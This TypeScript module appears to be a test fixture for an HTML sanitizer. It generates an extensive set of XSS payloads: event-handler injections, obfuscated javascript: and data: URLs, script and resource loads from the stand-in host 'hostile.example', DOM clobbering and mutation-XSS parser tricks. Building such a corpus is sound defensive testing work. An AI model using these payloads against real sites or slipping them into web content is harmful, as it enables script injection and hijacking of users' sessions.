/** An address of a server that no page may ask. */
export const HOSTILE_HOST = 'hostile.example';
const FIRE = 'alert(1)';
const FOREIGN = `https://${HOSTILE_HOST}/x`;

/** Elements with a handler for an event that comes by itself, or when something is pressed or looked at. */
const HANDLERS = [
  ...['img src=x', 'video src=x', 'audio src=x', 'source src=x', 'input type=image src=x', 'object data=x', 'embed src=x', 'link rel=stylesheet href=x'],
  ...[
    'body',
    'iframe',
    'svg',
    'p',
    'a href=#',
    'h2',
    'td',
    'blockquote',
    'span dir=rtl',
    'details open',
    'marquee',
    'style',
    'frameset',
    'math',
    'x',
    'custom-x',
  ],
].flatMap((element) =>
  ['onerror', 'onload', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin', 'onpointerenter'].map((event) => `<${element} ${event}=${FIRE}>x`),
);

const ADDRESSES = [
  `javascript:${FIRE}`,
  `JaVaScRiPt:${FIRE}`,
  ` javascript:${FIRE}`,
  `java\tscript:${FIRE}`,
  `java\nscript:${FIRE}`,
  `&#106;avascript:${FIRE}`,
  `&#x6A;&#x61;vascript:${FIRE}`,
  `javascript&colon;${FIRE}`,
  `javascript&#58;${FIRE}`,
  `\u0001javascript:${FIRE}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${FIRE}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${FIRE}>`,
  `blob:${FOREIGN}`,
  `//${HOSTILE_HOST}/x`,
];
const IN_ADDRESSES = ADDRESSES.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<a xlink:href="${address}">x</a>`,
  `<form action="${address}"><input type=submit></form>`,
  `<button formaction="${address}">x</button>`,
  `<iframe src="${address}"></iframe>`,
  `<object data="${address}"></object>`,
  `<embed src="${address}">`,
  `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
  `<svg><use href="${address}"></use></svg>`,
  `<math href="${address}">x</math>`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<base href="${address}">`,
]);

/** What loads something from elsewhere, or shows the person something that it is not. */
const FOREIGN_PARTS = [
  `<img src="${FOREIGN}">`,
  `<img srcset="${FOREIGN} 1x">`,
  `<picture><source srcset="${FOREIGN}"><img></picture>`,
  `<video poster="${FOREIGN}"></video>`,
  `<audio autoplay src="${FOREIGN}"></audio>`,
  `<track src="${FOREIGN}">`,
  `<link rel=prefetch href="${FOREIGN}">`,
  `<link rel=stylesheet href="${FOREIGN}">`,
  `<style>@import "${FOREIGN}"; body{background:url(${FOREIGN})}</style>`,
  `<p style="background:url(${FOREIGN})">x</p>`,
  `<p style="text-align:center;background-image:url(${FOREIGN})">x</p>`,
  `<table background="${FOREIGN}"><td background="${FOREIGN}">x</table>`,
  `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
  `<iframe srcdoc="<script>parent.${FIRE}</script>"></iframe>`,
  `<object type="text/html" data="${FOREIGN}"></object>`,
  `<script>${FIRE}</script>`,
  `<script src="${FOREIGN}"></script>`,
  `<scr<script>ipt>${FIRE}</scr</script>ipt>`,
  `<svg><script>${FIRE}</script></svg>`,
  `<svg><script href="${FOREIGN}"></script></svg>`,
  `<svg><image href="${FOREIGN}"></svg>`,
  `<svg><set attributeName=onmouseover to=${FIRE}>`,
  `<svg><animate onbegin=${FIRE} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${FIRE}</script>"></iframe></foreignObject></svg>`,
  `<template><script>${FIRE}</script></template>`,
  `<div><template shadowrootmode=open><script>${FIRE}</script><img src=x onerror=${FIRE}></template></div>`,
  `<portal src="${FOREIGN}"></portal>`,
  `<a href="https://academy.example" ping="${FOREIGN}">x</a>`,
  `<details open ontoggle=${FIRE}>x</details>`,
  `<input autofocus onfocus=${FIRE}>`,
  `<p contenteditable autofocus onfocus=${FIRE}>x</p>`,
  `<p id=x tabindex=0 onfocus=${FIRE}>x</p>`,
  `<form id=document><input name=cookie><input name=body></form>`,
  `<a id=defaultView href=x:1>x</a><a name=attributes>x</a>`,
];

/** Texts that mean something else after one more pass of a parser, or end inside of something. */
const BROKEN = [
  `<noscript><p title="</noscript><img src=x onerror=${FIRE}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${FIRE}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${FIRE}>">`,
  `<math><mtext><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=${FIRE}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${FIRE}>`,
  `<svg><style>&lt;img src=x onerror=${FIRE}&gt;</style></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${FIRE}></style></annotation-xml></math>`,
  `<select><style></select><img src=x onerror=${FIRE}></style>`,
  `<xmp><p title="</xmp><img src=x onerror=${FIRE}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${FIRE}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${FIRE}>">`,
  `<title><img title="</title><img src=x onerror=${FIRE}>">`,
  `<iframe><img title="</iframe><img src=x onerror=${FIRE}>"></iframe>`,
  `<!--><img src=x onerror=${FIRE}>-->`,
  `<!--!><img src=x onerror=${FIRE}>--!>`,
  `<![CDATA[<img src=x onerror=${FIRE}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${FIRE}>`,
  `<!DOCTYPE x [<!ENTITY e "<img src=x onerror=${FIRE}>">]>&e;`,
  `<img """><script>${FIRE}</script>">`,
  `<img src=x onerror\n=\n${FIRE}>`,
  `<img/src=x/onerror=${FIRE}>`,
  `<img src=x onerror=${FIRE}//`,
  `<<img src=x onerror=${FIRE}>`,
  `<p lang="x"onmouseover=${FIRE}>x</p>`,
  `<p lang='"><img src=x onerror=${FIRE}>'>x</p>`,
  `<p dir="ltr\u0001" onmouseover=${FIRE}>x</p>`,
  `<td colspan="1" onmouseover="${FIRE}">x</td>`,
  `<a href="https://academy.example/&quot; onmouseover=&quot;${FIRE}">x</a>`,
  `&lt;img src=x onerror=${FIRE}&gt;`,
  `&amp;lt;img src=x onerror=${FIRE}&amp;gt;`,
  `<plaintext><img src=x onerror=${FIRE}>`,
  `<p><b><p title="${'<b>'.repeat(40)}"><img src=x onerror=${FIRE}>`,
  `${'<div>'.repeat(60)}<img src=x onerror=${FIRE}>`,
];

/** HTML texts that try to run a script, to ask another server, or to leave their place, in the order of blocks; the first ones are harmless to each other. */
export const HOSTILE_HTML: readonly string[] = [HANDLERS.join('\n'), IN_ADDRESSES.join('\n'), ...FOREIGN_PARTS, ...BROKEN];

/** The number of single payloads in these texts. */
export const HOSTILE_PAYLOADS = HANDLERS.length + IN_ADDRESSES.length + FOREIGN_PARTS.length + BROKEN.length;
